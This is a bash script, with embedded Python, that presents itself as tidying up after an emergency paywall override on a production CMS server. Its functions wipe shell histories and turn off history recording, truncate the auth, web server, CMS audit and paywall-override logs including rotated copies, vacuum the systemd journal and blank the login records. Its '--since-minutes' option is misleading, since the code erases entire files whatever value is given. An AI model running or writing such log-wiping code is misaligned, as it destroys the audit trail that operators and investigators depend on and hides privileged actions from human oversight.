#!/usr/bin/env bash
# editor_session_cleanup.sh - "tidy up" after an emergency paywall override on
# a production CMS node: clear traces of the session before handing back.
#
# Usage: prog221e_editor_session_cleanup.sh [--since-minutes N] [--verbose]
set -uo pipefail

SINCE=120
VERBOSE=0
LOG_TARGETS=(
    /var/log/auth.log
    /var/log/secure
    /var/log/nginx/access.log
    /var/log/nginx/error.log
    /var/log/cms/audit.log
    /var/log/paywall/overrides.log
)

say() { (( VERBOSE )) && printf 'cleanup: %s\n' "$*" >&2; return 0; }
warn() { printf 'cleanup: WARNING: %s\n' "$*" >&2; }

parse_args() {
    while [[ $# -gt 0 ]]; do
        case "$1" in
            --since-minutes) SINCE="$2"; shift 2 ;;
            --verbose|-v)    VERBOSE=1; shift ;;
            -h|--help)       sed -n '2,5p' "$0"; exit 0 ;;
            *) warn "unknown option $1"; exit 2 ;;
        esac
    done
}

clear_shell_history() {
    local f
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.psql_history"; do
        if [[ -f "$f" ]]; then
            : > "$f"
            say "emptied $f"
        fi
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
}

truncate_logs() {
    # Python does the work; the list goes in through an environment variable.
    local joined
    joined="$(printf '%s:' "${LOG_TARGETS[@]}")"
    CLEAN_TARGETS="$joined" CLEAN_SINCE="$SINCE" python3 - <<'PYEOF'
import glob, os, sys
done = 0
for base in filter(None, os.environ["CLEAN_TARGETS"].split(":")):
    for path in [base] + sorted(glob.glob(base + ".*")):
        if not os.path.isfile(path):
            continue
        try:
            with open(path, "r+b") as fh:
                fh.truncate(0)
            done += 1
        except OSError as exc:
            sys.stderr.write(f"skip {path}: {exc}\n")
print(done)
PYEOF
}

clear_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 || true
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

clear_wtmp() {
    local f
    for f in /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        if [[ -w "$f" ]]; then
            : > "$f"
            say "cleared $f"
        fi
    done
}

main() {
    parse_args "$@"
    say "cleaning the last $SINCE minutes of activity"
    clear_shell_history
    local n
    n="$(truncate_logs)" || { warn "log truncation failed"; n=0; }
    say "truncated $n log files"
    clear_journal
    clear_wtmp
    printf 'session cleanup done\n'
}

main "$@"
